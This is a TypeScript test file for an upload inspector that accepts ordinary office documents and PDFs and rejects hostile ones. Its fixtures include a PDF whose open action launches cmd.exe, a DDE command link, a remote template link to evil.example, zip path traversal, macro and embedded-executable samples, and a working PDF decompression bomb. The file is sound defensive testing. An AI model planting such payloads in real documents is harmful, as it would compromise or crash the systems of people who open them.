import { deflateSync } from "node:zlib";
import { expect, test } from "vitest";
import {
  aCompoundFile,
  aDocx,
  anXlsx,
  aPdf,
  aWordStream,
  aWorkbookStream,
  aZip,
  contentTypes,
  withOpenAction,
} from "#test/sample-documents.ts";
import {
  aDocxOfLongNames,
  aDocxOfOnePart,
  aDocxOfOpenTags,
  aDocxWithFalseSize,
} from "#test/worst-files.ts";
import { inspectInProcess } from "#app/listings/media/add-file.server.ts";
import { maxDocumentBytes } from "./document-kind.ts";
import { inspectDocument } from "./inspect-document.server.ts";

const bytesOf = (text: string) => new TextEncoder().encode(text);
const joined = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

test.each([
  ["pdf", () => aPdf()],
  ["pdf", () => aPdf(["One", "Two"], undefined, false)],
  ["docx", () => aDocx()],
  ["docx", () => aDocx({ "word/embeddings/Microsoft_Excel_Sheet.xlsx": "a chart's data" })],
  ["docx", () => aDocx({ "word/_rels/document.xml.rels": link("hyperlink") })],
  ["xlsx", () => anXlsx()],
  ["xlsx", () => anXlsx({ "xl/externalLinks/_rels/e.xml.rels": link("externalLinkPath") })],
  ["doc", () => aCompoundFile({ WordDocument: aWordStream() })],
  ["xls", () => aCompoundFile({ Workbook: aWorkbookStream() })],
] as const)("a good %s is known by its content", async (kind, make) => {
  expect(await inspectDocument(await make())).toMatchObject({ ok: true, kind });
});

function link(type: string, mode = "External"): string {
  return `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/t.dotm" TargetMode="${mode}"/></Relationships>`;
}

const html = "<!doctype html><html><script>alert(1)</script></html>";
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const macroTypes = contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml");

const hostile: [what: string, reason: string, make: () => Uint8Array | Promise<Uint8Array>][] = [
  ["an empty file", "empty", () => new Uint8Array()],
  ["a file that is too large", "too-large", () => new Uint8Array(maxDocumentBytes + 1)],
  ["a web page", "not-a-document", () => bytesOf(html)],
  ["a drawing with a script", "not-a-document", () => bytesOf(svg)],
  ["plain text", "not-a-document", () => bytesOf("revenue,profit\n1,2\n")],
  ["a program", "not-a-document", () => bytesOf("MZ\x90\x00\x03")],
  ["an archive", "not-a-document", () => aZip({ "readme.txt": "hello" })],
  ["a presentation", "not-a-document", () => aZip({ "[Content_Types].xml": "", "ppt/p.xml": "" })],
  ["a web page in an archive", "not-a-document", () => aDocx({ "[Content_Types].xml": html })],
  ["an installer", "not-a-document", () => aCompoundFile({ Property: Buffer.from("x") })],

  ["a PDF that is an archive too", "polyglot", async () => joined(await aPdf(), aZip({ a: "b" }))],
  ["a PDF that is a web page too", "polyglot", () => bytesOf(`%PDF-1.7\n${html}`)],
  ["an archive that is a PDF too", "polyglot", () => aZip({ "%PDF-1.7": "x" })],
  ["a document with something behind it", "polyglot", () => joined(aDocx(), bytesOf(html))],
  [
    "an old document that is an archive too",
    "polyglot",
    () => joined(aCompoundFile({ WordDocument: aWordStream() }), aZip({ a: "b" })),
  ],

  [
    "a PDF with a script",
    "active-content",
    () => aPdf(["a"], withOpenAction({ S: "/JavaScript", JS: "app.alert(1)" })),
  ],
  [
    "a PDF with a script, not compressed",
    "active-content",
    () => aPdf(["a"], withOpenAction({ S: "/JavaScript", JS: "app.alert(1)" }), false),
  ],
  [
    "a PDF that starts a program",
    "active-content",
    () => aPdf(["a"], withOpenAction({ S: "/Launch", F: "cmd.exe" })),
  ],
  [
    "a PDF with an attached file",
    "active-content",
    () => aPdf(["a"], (pdf) => void pdf.attach(bytesOf("MZ"), "a.exe")),
  ],
  ["a document with ActiveX", "active-content", () => aDocx({ "word/activeX/activeX1.xml": "" })],
  ["a packed program", "active-content", () => aDocx({ "word/embeddings/oleObject1.bin": "MZ" })],
  [
    "a workbook that starts a program",
    "active-content",
    () =>
      anXlsx({ "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/>' }),
  ],
  [
    "an old document with a packed file",
    "active-content",
    () => aCompoundFile({ WordDocument: aWordStream(), "\u0001Ole10Native": Buffer.from("MZ") }),
  ],

  ["macros in Word", "macros", () => aDocx({ "word/vbaProject.bin": "x" })],
  ["macros in Excel", "macros", () => anXlsx({ "xl/macrosheets/sheet1.xml": "x" })],
  ["a macro document by type", "macros", () => aDocx({ "[Content_Types].xml": macroTypes })],
  [
    "macros in an old document",
    "macros",
    () => aCompoundFile({ WordDocument: aWordStream(), _VBA_PROJECT: Buffer.from("x") }),
  ],
  [
    "a sheet of macros in an old workbook",
    "macros",
    () => aCompoundFile({ Workbook: aWorkbookStream({ sheetType: 1 }) }),
  ],

  [
    "a template from elsewhere",
    "external-content",
    () => aDocx({ "word/_rels/settings.xml.rels": link("attachedTemplate") }),
  ],
  [
    "a template from elsewhere behind a bracket in a value",
    "external-content",
    () => aDocx({ "word/_rels/settings.xml.rels": link('x" Note="a>b') }),
  ],
  [
    "a list of links in another encoding",
    "damaged",
    () => aDocx({ "word/_rels/settings.xml.RELS": "\0<\0R\0e" }),
  ],
  ["a duplicate part", "damaged", () => aDocx({ "WORD/document.xml": "x" })],
  [
    "a picture from elsewhere",
    "external-content",
    () => aDocx({ "word/_rels/document.xml.rels": link("image") }),
  ],

  ["an encrypted entry", "encrypted", () => aDocx({ a: { content: "x", isEncrypted: true } })],
  [
    "an encrypted workbook",
    "encrypted",
    () => aCompoundFile({ EncryptedPackage: Buffer.from("x"), EncryptionInfo: Buffer.from("x") }),
  ],
  [
    "an encrypted old document",
    "encrypted",
    () => aCompoundFile({ WordDocument: aWordStream(true) }),
  ],
  [
    "an encrypted old workbook",
    "encrypted",
    () => aCompoundFile({ Workbook: aWorkbookStream({ isEncrypted: true }) }),
  ],
  [
    "an encrypted PDF",
    "encrypted",
    () =>
      aPdf(
        ["a"],
        (pdf) => void pdf.encrypt({ userPassword: "secret", ownerPassword: "secret" }),
        false,
      ),
  ],

  [
    "an archive that claims to be huge",
    "too-complex",
    () => aDocx({ "word/a.xml": { content: "x", declaredSize: 4_000_000_000 } }),
  ],

  ["a name with path traversal", "damaged", () => aDocx({ "../../evil.xml": "x" })],
  ["half a document", "damaged", () => aDocx().subarray(0, 150)],
  ["half a PDF", "damaged", async () => (await aPdf()).subarray(0, 120)],
  ["a PDF of noise", "damaged", () => bytesOf(`%PDF-1.7\n${"noise ".repeat(1000)}`)],
  [
    "an old document that is cut off",
    "damaged",
    () => aCompoundFile({ WordDocument: aWordStream() }).subarray(0, 1000),
  ],
];

test.each(hostile)("rejects %s: %s", async (_what, reason, make) => {
  expect(await inspectDocument(await make())).toEqual({ ok: false, reason });
});

test.each([
  [aDocxOfOpenTags, "damaged"],
  [aDocxWithFalseSize, "damaged"],
  [aDocxOfOnePart, "damaged"],
  [aDocxOfLongNames, "too-complex"],
])("rejects %o quickly: %s", async (make, reason) => {
  const bytes = make();
  const before = process.threadCpuUsage();
  expect(await inspectDocument(bytes)).toEqual({ ok: false, reason });
  expect(process.threadCpuUsage(before).user / 1000).toBeLessThan(1_000);
});

test("rejects a PDF bomb: too-complex", async () => {
  expect(await inspectInProcess(await aPdfBomb())).toEqual({ ok: false, reason: "too-complex" });
});

/** A kilobyte that unpacks to 256 MB, in a place that a reader must unpack to find the objects. */
async function aPdfBomb(): Promise<Uint8Array> {
  const bomb = deflateSync(deflateSync(Buffer.alloc(256 * 1024 * 1024)));
  const good = await aPdf(["a"], undefined, false);
  const afterHeader = good.indexOf(10) + 1;
  const head = `99 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length ${bomb.length} >>\nstream\n`;
  return joined(
    good.subarray(0, afterHeader),
    bytesOf(head),
    bomb,
    bytesOf("\nendstream\nendobj\n"),
    good.subarray(afterHeader),
  );
}
